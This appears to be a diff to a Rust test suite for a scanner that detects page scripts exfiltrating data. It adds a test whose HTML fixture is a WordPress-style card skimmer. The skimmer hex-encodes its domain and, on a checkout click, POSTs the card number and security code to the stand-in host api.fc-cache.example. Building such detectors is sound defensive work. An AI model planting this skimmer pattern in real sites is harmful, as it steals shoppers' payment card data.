@@ -2,7 +2,9 @@
 //! script's own tag (`document.currentScript.dataset.cdn`), in a `<meta content>`, in a JSON
 //! configuration block read through `getElementById(…).textContent`. The script names no host;
 //! the page does, so the same file is judged by each page's values, and a shared cache keeps
-//! them apart. A script that takes harmless settings from its page stays quiet.
+//! them apart. A script that takes harmless settings from its page stays quiet. A global that
+//! another script only declares as data (`var fc_params = {…};`) and an inline block's own tag
+//! are the page's too.
 
 mod common;
 use common::{html, js, scan_json, serve};
@@ -243,5 +245,38 @@ fn a_tag_found_by_part_of_its_src() {
         page("", body),
         ("/js/reviews-widget.min.js", widget),
         "reviews.widget-host.example",
+    );
+}
+
+/// A WordPress-shaped plugin: `wp_localize_script` prints its settings as a data-only script
+/// (`var fc_params = {…};`, the domain hex-encoded), and the plugin's inline "-js-after" block
+/// reads them and the host's first label from its own tag (`currentScript.dataset` of an
+/// inline script). Either half alone leaves the host unknown.
+#[test]
+fn a_data_global_of_another_script_and_an_inline_blocks_own_tag() {
+    let body = r#"<script id="fc-js-extra">
+var fc_params = {"ajax_url":"\/wp-admin\/admin-ajax.php","domain":"2e66632d63616368652e6578616d706c65","ttl":"900"};
+</script>
+<script id="fc-js-after" data-label="api">
+(function (me, p) {
+  var label = (me && me.dataset ? me.dataset : {}).label;
+  var domain = (p.domain || '').replace(/../g, function (x) { return String.fromCharCode(parseInt(x, 16)); });
+  document.addEventListener('click', function (e) {
+    if (e.target && e.target.id === 'shopping-confirm-btn') {
+      var x = new XMLHttpRequest();
+      x.open('POST', 'https://' + label + domain + '/v1/fields', true);
+      x.send('c=' + document.getElementById('card_no').value + '&s=' + document.getElementById('security_code').value);
+    }
+  }, true);
+})(document.currentScript, window.fc_params || {});
+</script>"#;
+    let (code, report) = scan(&[("/shopping", page("", body))], &[], &["--no-cache"]);
+    assert_eq!(code, 1, "{report:#}");
+    assert_eq!(
+        exfiltration(&report),
+        vec![(
+            "/shopping".to_string(),
+            vec!["api.fc-cache.example".to_string()]
+        )]
     );
 }
